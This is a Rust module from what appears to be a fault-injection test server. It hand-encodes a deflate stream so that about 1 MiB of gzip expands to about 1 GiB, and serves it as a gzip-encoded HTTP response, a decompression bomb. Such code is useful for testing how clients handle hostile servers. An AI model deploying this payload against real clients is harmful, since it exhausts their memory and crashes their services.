//! A gzip bomb.

use axum::body::Bytes;
use axum::http::header::CONTENT_ENCODING;
use axum::http::{HeaderValue, Response};

use super::context::{FaultContext, FaultOutput};

/// The header of a gzip file.
const GZIP: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// The size of the decompressed bomb, in bytes.
const BOMB: usize = 1 << 30;
// The maximum of deflate.
/// Bytes per code of the bomb.
const RUN: usize = 258;

/// 1 GiB of spaces in 1 MiB: a dynamic block whose code for the longest run has one bit.
pub fn bomb(cx: &mut FaultContext<'_>) -> FaultOutput {
    let mut bits = Bits::new(GZIP.to_vec());
    // The last block, dynamic: 286 literals and lengths, 1 distance, 18 code lengths.
    bits.put(1, 1);
    bits.put(2, 2);
    bits.put(286 - 257, 5);
    bits.put(0, 5);
    bits.put(18 - 4, 4);
    // Code lengths in deflate's order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1: only 18 (a run of
    // zeros, 1 bit), 1 and 2 (2 bits each) are used.
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
        bits.put(
            match symbol {
                18 => 1,
                1 | 2 => 2,
                _ => 0,
            },
            3,
        );
    }
    let zeros = |bits: &mut Bits, count: u32| {
        bits.put(0, 1);
        bits.put(count - 11, 7);
    };
    // Their codes: 18 is `0`, 1 is `10`, 2 is `11`; codes are output from the highest bit on.
    let repeated = 0b01;
    let two = 0b11;
    // The space and the end of the block have 2 bits, the run of 258 has 1.
    zeros(&mut bits, 32);
    bits.put(two, 2);
    zeros(&mut bits, 138);
    zeros(&mut bits, 85);
    bits.put(two, 2);
    zeros(&mut bits, 28);
    bits.put(repeated, 2);
    // One distance, of 1 byte, with a code of 1 bit.
    bits.put(repeated, 2);
    // The space is `10`, the end `11`, the run `0`, its distance `0`.
    bits.put(0b01, 2);
    bits.zeros(BOMB / RUN * 2);
    bits.put(0b11, 2);
    let (parts, _) = cx.reply.clone().into_parts();
    let mut response = Response::from_parts(parts, Bytes::from(bits.bytes));
    response
        .headers_mut()
        .insert(CONTENT_ENCODING, HeaderValue::from_static("gzip"));
    FaultOutput::Response(response)
}

/// Writes numbers bit by bit, lowest bit first.
struct Bits {
    bytes: Vec<u8>,
    free: u32,
}

impl Bits {
    const fn new(bytes: Vec<u8>) -> Self {
        Self { bytes, free: 0 }
    }

    fn zeros(&mut self, count: usize) {
        while self.free > 0 {
            self.put(0, 1);
        }
        self.bytes.resize(self.bytes.len() + count / 8, 0);
    }

    fn put(&mut self, value: u32, count: u32) {
        for shift in 0..count {
            if self.free == 0 {
                self.bytes.push(0);
                self.free = 8;
            }
            let bit = u8::from(value >> shift & 1 == 1);
            if let Some(last) = self.bytes.last_mut() {
                *last |= bit << (8 - self.free);
            }
            self.free -= 1;
        }
    }
}
